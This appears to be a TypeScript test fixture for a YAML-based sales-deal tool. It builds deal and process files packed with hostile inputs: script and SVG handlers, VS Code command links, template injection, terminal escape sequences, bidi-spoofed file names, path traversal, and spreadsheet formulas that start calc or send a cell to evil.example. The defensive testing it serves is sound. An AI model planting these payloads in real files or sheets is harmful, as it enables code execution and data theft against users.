/** Texts that somebody may put into a file to have the reader's editor, terminal, browser or spreadsheet act on them. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '<script>globalThis.pwned = 1</script>',
  'closing script': '</script><script>globalThis.pwned = 1</script>',
  'image with a handler': '<img src=x onerror="globalThis.pwned = 1">',
  'drawing with a handler': '<svg/onload=globalThis.pwned=1>',
  'link that runs a command': '<a href="command:workbench.action.quit">open</a>',
  'Markdown link that runs a command': '[x](command:workbench.action.quit)',
  'Markdown link by reference': '[x][1] [1]: command:workbench.action.quit',
  'bare links':
    'https://evil.example www.evil.example <https://evil.example> <command:workbench.action.quit>',
  'file link': '[x](file:///etc/passwd) vscode://file/etc/passwd',
  'Markdown image': '![x](http://evil.example/pixel.png)',
  'Markdown blocks': '# heading - list 1. list > quote --- | a | b | *em* __strong__ ~~gone~~ $x$ \\*',
  icons: '$(zap) $(loading~spin) \\$(zap) \\\\$(zap)',
  code: '`code` ```js alert(1) ``` ~~~',
  entities: '&lt;b&gt; &amp; &#x3c;b&#x3e;',
  templates: '${globalThis.pwned = 1} {{constructor.constructor("pwned=1")()}} <%= pwned %> #{pwned}',
  'terminal colours': 'red \u001b[31m clear \u001b[2J\u001b[H \u009b1m \u001bc',
  'terminal link': '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'terminal clipboard and title':
    '\u001b]52;c;cm0gLXJm\u0007 \u001b]0;title\u0007 \u009d0;title\u009c \u0090q\u009c',
  controls: 'nul \u0000 bell \u0007 back \b\b\b vertical \v form \f delete \u007f next \u0085',
  'line ends': 'first\nsecond\r\nthird\rfourth\u2028fifth\u2029sixth',
  'turns of direction': 'invoice\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark\u200e \u061c',
  'invisible characters': 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg \u{e0041}',
  'half characters': 'high \ud83d low \ude00 end',
  'many accents': `Z${'\u0300\u0489'.repeat(200)}algo`,
  ['__proto__']: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  formula: '=HYPERLINK("http://evil.example?x="&A1,"open")',
  'formula with a sum': '+1+1',
  'formula with a difference': '-2+3',
  'formula with a function': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula that starts a program': "=cmd|'/C calc'!A0",
  'formula behind a tab': '\t=1+1',
  'formula behind a line end': '\r=1+1',
  'formula in full-width characters': '＝1+1',
  'full-width signs': '＋1 －1 ＠SUM(1)',
  'formula behind another separator': 'a;=1+1;b',
  'quotes and separators': '"," \'","\' ";" |',
  paths: '../../../etc/passwd C:\\Windows %APPDATA% $HOME ~',
  'format marks': '{0} {1} %s %d %n',
  yaml: 'a: b # c, [d, {e: f}] *g &h !i | > \' " % @ ` - ? :',
  fence: '---',
  endless: 'long '.repeat(7_000),
};

/** The same, less the one that is longer than a cell of a spreadsheet can be. */
export const SHORT_HOSTILE = Object.entries(HOSTILE).filter(([name]) => name !== 'endless');

/** Names that every object has, and that a careless program finds where a file has said nothing. */
export const INHERITED = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** A text as YAML in double quotes, which can hold any character; half characters come out as replacement marks. */
export function yaml(text: string): string {
  return JSON.stringify(wellFormed(text)).replace(
    /[\u007f-\u009f\u2028\u2029\ufeff]/g,
    character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

/** As a file in UTF-8 gives a text back: without half characters. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}

/** A deal with the text in every field that takes one: nothing in it keeps it from being read. */
export function dealOf(text: string, more: readonly string[] = []): string {
  const written = yaml(text);
  return [
    '---',
    `title: ${written}`,
    `account: ${written}`,
    `owner: ${written}`,
    'stage: proposal',
    `lost_reason: ${written}`,
    `lost_note: ${written}`,
    `source: ${written}`,
    'value: 48000',
    'currency: EUR',
    `next_step: ${written}`,
    'next_step_on: 2026-11-30',
    `contacts: [{name: ${written}, role: ${written}, ${written}: ${written}}]`,
    `tags: [${written}]`,
    `? ${written.length < 1000 ? written : 'long'}`,
    `: ${written}`,
    ...more,
    '---',
    `# ${oneLine(text)}`,
    '',
    wellFormed(text),
    '',
  ].join('\n');
}

/** A deal in which the text stands in every field that has to be something else: each is told as a problem. */
export function doubtfulDeal(text: string): string {
  const written = yaml(text);
  return [
    '---',
    `title: ${written}`,
    'stage: proposal',
    `value: ${written}`,
    `currency: ${written}`,
    `probability: ${written}`,
    ...['created', 'close_date', 'closed_on', 'next_step_on'].map(key => `${key}: ${written}`),
    'history:',
    `  - ${written}`,
    `  - {on: ${written}, stage: proposal}`,
    `  - {on: 2026-01-05, stage: ${written}}`,
    `  - {on: 2026-01-06, status: ${written}}`,
    `  - {on: 2026-01-07, stage: proposal, ${written.length < 1000 ? written : 'long'}: ${written}}`,
    '---',
    '',
  ].join('\n');
}

/** Files that cannot be read as deals for the text that stands in them. By what is wrong. */
export function unreadableDeals(text: string): Record<string, string> {
  const written = yaml(text);
  const bare = oneLine(text);
  return {
    stage: `---\ntitle: ${written}\nstage: ${written}\n---\n`,
    status: `---\ntitle: ${written}\nstage: proposal\nstatus: ${written}\n---\n`,
    'key that stands twice': `---\nstage: proposal\n${written}: 1\n${written}: 2\n---\n`,
    'broken YAML': `---\nstage: proposal\ntitle: a: b ${bare}\n---\n`,
    'unknown tag': `---\nstage: !<${bare}> proposal\ntitle: [${bare}\n---\n`,
    alias: `---\nstage: proposal\ntitle: *${bare}\n---\n`,
    language: `---${bare}\nstage: proposal\n---\n`,
  };
}

/** A `sales-process.yaml` with the text wherever a team writes one, and where something else is expected. */
export function processOf(text: string): string {
  const written = yaml(text);
  return [
    `lost_reasons: [${written}, price]`,
    'stages:',
    '  proposal:',
    `    label: ${written}`,
    `    aliases: [${written}]`,
    `    purpose: ${written}`,
    `    guidance: ${written}`,
    '    exit_criteria:',
    `      - {id: ${written}, text: ${written}}`,
    '  closing:',
    `    label: [${written}]`,
    `    probability: ${written}`,
    `    forecast: ${written}`,
    `currency: ${written}`,
    `skip: ${written}`,
    `? ${written.length < 1000 ? written : 'long'}`,
    `: ${written}`,
    '',
  ].join('\n');
}

/** What a text is as a part of a line. */
export function oneLine(text: string): string {
  return wellFormed(text)
    .replace(/[\n\r\u0085\u2028\u2029]+/g, ' ')
    .trim();
}

/** All that a terminal, or a row of a view, could take for more than text; line ends and tabs are asked for apart. */
export const UNSAFE = /(?![\t\n\r])[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u;
